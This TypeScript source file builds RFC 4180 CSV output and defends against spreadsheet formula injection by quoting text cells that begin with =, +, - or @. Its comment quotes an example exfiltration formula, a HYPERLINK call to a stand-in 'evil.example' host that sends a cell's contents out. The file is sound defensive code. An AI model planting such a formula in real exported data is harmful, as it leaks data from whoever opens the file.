import { jsonText } from '../model/json-text';

/**
 * RFC 4180 text: records end with CRLF; a field holding a quote, a comma, a CR or an LF is quoted,
 * its quotes doubled. `undefined` and `null` become empty fields.
 *
 * A spreadsheet that opens a CSV file runs a cell as a formula when its text begins with `=`, `+`,
 * `-` or `@` (and some treat a leading tab, CR, LF or NUL the same way): a label such as
 * `=HYPERLINK("https://evil.example?"&A1)` would run on the reader's machine. Text cells are
 * therefore neutralised as OWASP recommends: a `'` before the text, inside a quoted field
 * (`"'=HYPERLINK(..."`), which spreadsheets read as "this is text" and do not show. Numbers are
 * never touched: a finite number cell is written as the number, and a text cell that is a plain decimal
 * number (`-12.5`, `+3`, `1e-3`) is left as it is, since a spreadsheet reads it as that number and
 * never as a formula.
 */

export interface CsvFormatOptions {
  /** Neutralise text cells a spreadsheet would run as formulas (default true). */
  escapeFormulas?: boolean;
}

/** What a spreadsheet reads as the start of a formula. */
// eslint-disable-next-line no-control-regex
const FORMULA_START = /^[=+\-@\t\r\n\u0000]/;
/** A plain decimal number, which a spreadsheet reads as that number. */
const PLAIN_NUMBER = /^[-+]?(?:\d+\.?\d*|\.\d+)(?:[eE][-+]?\d+)?$/;

/** Whether text would run as a formula when a spreadsheet opens the file. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text);
}

/**
 * One field. Any value is accepted (a crafted snapshot may hold anything where text belongs): what
 * is not a string, number or boolean is written as JSON, and nothing here throws.
 */
export function csvField(cell: unknown, escapeFormulas = true): string {
  if (cell === undefined || cell === null) return '';
  let text: string;
  switch (typeof cell) {
    case 'string':
      text = cell;
      if (escapeFormulas && isFormulaLike(text)) return `"'${text.replace(/"/g, '""')}"`;
      break;
    case 'number':
      // A finite number is a number to every reader; `-Infinity` (a crafted snapshot) is text.
      if (!Number.isFinite(cell)) return csvField(String(cell), escapeFormulas);
      text = String(cell);
      break;
    case 'boolean':
      text = String(cell);
      break;
    default:
      return csvField(jsonText(cell), escapeFormulas);
  }
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One header line, then one line per row, every line ending in CRLF. */
export function csvTable(header: readonly string[], rows: readonly (readonly unknown[])[], options: CsvFormatOptions = {}): string {
  const escape = options.escapeFormulas !== false;
  const lines: string[] = [header.map((h) => csvField(h, escape)).join(',')];
  for (const row of rows) lines.push(row.map((cell) => csvField(cell, escape)).join(','));
  return lines.join('\r\n') + '\r\n';
}
